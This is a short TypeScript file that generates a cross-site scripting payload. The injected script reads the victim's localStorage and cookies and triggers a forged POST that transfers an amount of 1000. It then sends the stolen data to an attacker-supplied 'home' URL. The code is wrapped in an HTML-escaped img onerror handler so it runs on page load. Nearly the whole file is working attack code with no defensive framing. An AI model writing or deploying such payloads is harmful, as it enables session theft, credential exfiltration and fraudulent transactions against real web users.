/** What runs in the victim's page. It is sent as text, and so knows nothing but its arguments. */
async function script({ home, transfer }: { home: string; transfer: string }) {
  const storage = Object.fromEntries(Object.entries(localStorage))
  const response = await fetch(transfer, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: '{"amount":1000}',
  }).catch(() => null)
  const loot = { cookies: document.cookie, storage, status: response?.status ?? null }
  await fetch(home, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) })
}

/** A name that is no name: an image that cannot be shown, and what to do about that. */
export function payload(given: Parameters<typeof script>[0]): string {
  const call = `(${script.toString()})(${JSON.stringify(given)})`
  return `<img src="data:," alt="" onerror="${call.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">`
}
